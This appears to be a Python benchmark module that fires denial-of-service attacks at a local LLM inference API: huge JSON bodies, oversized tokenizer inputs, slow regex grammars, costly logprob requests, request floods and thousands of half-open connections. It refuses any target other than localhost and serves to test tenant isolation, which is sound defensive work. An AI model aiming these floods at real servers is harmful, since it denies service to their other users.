"""What one tenant, or somebody without a key, may send to stop all others: bounded, and to this
machine only.

`python -m benchmarks.attacks KIND URL KEY SECONDS` sends it and prints what came back as JSON:
answers by status. An empty KEY sends none.
"""

from __future__ import annotations

import asyncio
import json
import random
import resource
import socket
import string
import sys
import time
from collections import Counter
from collections.abc import Callable, Coroutine
from typing import Any, TypeAlias
from urllib.parse import urlsplit

import httpx

Attack: TypeAlias = Callable[[str, str, str, float], Coroutine[Any, Any, Counter[str]]]
TOGETHER = 8
"""Requests open at a time."""
MAX_CONNECTIONS = 4200
"""More than HAProxy has room for by default."""
CHAT = '"messages": [{"role": "user", "content": "x"}]'


def parse(model: str, turn: int) -> tuple[str, str]:
    """Bodies of megabytes that mean nothing."""
    many = [
        '"logit_bias": {' + ",".join(f'"{i}": 1' for i in range(500_000)) + "}",
        '"chat_template_kwargs": {"a": [' + "1," * 3_000_000 + "1]}",
        '"tools": [' + "{}," * 2_000_000 + "{}]",
    ]
    return "/v1/chat/completions", f'{{"model": "{model}", {CHAT}, {many[turn % 3]}}}'


def tokenize(model: str, turn: int) -> tuple[str, str]:
    """Long texts in few words, and many tokens as a text."""
    letters = "".join(random.choices(string.ascii_letters, k=1_300_000))
    turns: list[tuple[str, dict[str, Any]]] = [
        ("/v1/chat/completions", {"messages": [{"role": "user", "content": letters}]}),
        ("/tokenize", {"prompt": letters * 3}),
        ("/detokenize", {"tokens": [46778] * 1_000_000}),
    ]
    path, body = turns[turn % 3]
    return path, json.dumps({"model": model, **body})


def grammar(model: str, turn: int) -> tuple[str, str]:
    """Small schemas that take long to compile, each another one."""
    hard = [
        {"type": "string", "pattern": f"(a|b)*a(a|b){{{8 + i % 5}}}c{i}x{turn}"} for i in range(100)
    ]
    body = {"messages": [{"role": "user", "content": "x"}], "max_tokens": 5}
    return "/v1/chat/completions", json.dumps(
        {"model": model, **body, "guided_json": {"type": "string", "allOf": hard}}
    )


def logprobs(model: str, turn: int) -> tuple[str, str]:
    """Twenty alternatives of each of thousands of prompt tokens, sixteen times over."""
    body = {"prompt": [turn % 1000, *range(1000, 3000)], "max_tokens": 1, "n": 16}
    return "/v1/completions", json.dumps({"model": model, **body, "prompt_logprobs": 20})


def refusals(model: str, turn: int) -> tuple[str, str]:
    """Far more requests than the tenant may make."""
    return "/v1/chat/completions", f'{{"model": "{model}", {CHAT}, "max_tokens": 1}}'


async def _send(
    make: Callable[[str, int], tuple[str, str]], url: str, key: str, model: str, seconds: float
) -> Counter[str]:
    headers = {"Content-Type": "application/json"}
    if key:
        headers["Authorization"] = f"Bearer {key}"
    until, statuses = time.monotonic() + seconds, Counter[str]()
    bodies = [make(model, turn) for turn in range(3)]
    limits = httpx.Limits(max_connections=TOGETHER)

    async def loop(client: httpx.AsyncClient, turn: int) -> None:
        while time.monotonic() < until:
            path, body = make(model, turn) if make is grammar else bodies[turn % 3]
            try:
                answer = await client.post(url + path, content=body, headers=headers)
                statuses[str(answer.status_code)] += 1
            except httpx.TransportError as error:
                statuses[type(error).__name__] += 1
            turn += TOGETHER

    async with httpx.AsyncClient(timeout=60, limits=limits) as client:
        async with asyncio.timeout(seconds + 60):
            await asyncio.gather(*(loop(client, turn) for turn in range(TOGETHER)))
    return statuses


async def _connect(url: str, key: str, model: str, seconds: float) -> Counter[str]:
    """Connections that send half a request, and then nothing."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (MAX_CONNECTIONS + 100,) * 2)
    address = urlsplit(url)
    opened: list[socket.socket] = []
    outcomes: Counter[str] = Counter()
    for _ in range(MAX_CONNECTIONS):
        try:
            made = socket.create_connection((address.hostname, address.port), timeout=2)
            made.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n")
            opened.append(made)
            outcomes["opened"] += 1
        except OSError as error:
            outcomes[type(error).__name__] += 1
            if outcomes.total() - outcomes["opened"] > 20:
                break
    await asyncio.sleep(seconds)
    for made in opened:
        made.close()
    return outcomes


def _sending(make: Callable[[str, int], tuple[str, str]]) -> Attack:
    async def attack(url: str, key: str, model: str, seconds: float) -> Counter[str]:
        return await _send(make, url, key, model, seconds)

    return attack


ATTACKS: dict[str, Attack] = {
    **{make.__name__: _sending(make) for make in (parse, tokenize, grammar, logprobs, refusals)},
    "connections": _connect,
}


def main() -> None:
    kind, url, key, model, seconds = sys.argv[1:]
    if urlsplit(url).hostname not in ("127.0.0.1", "localhost", "::1"):
        sys.exit("only a server on this machine is attacked")
    statuses: dict[str, Any] = dict(asyncio.run(ATTACKS[kind](url, key, model, float(seconds))))
    print(json.dumps(statuses))


if __name__ == "__main__":
    main()
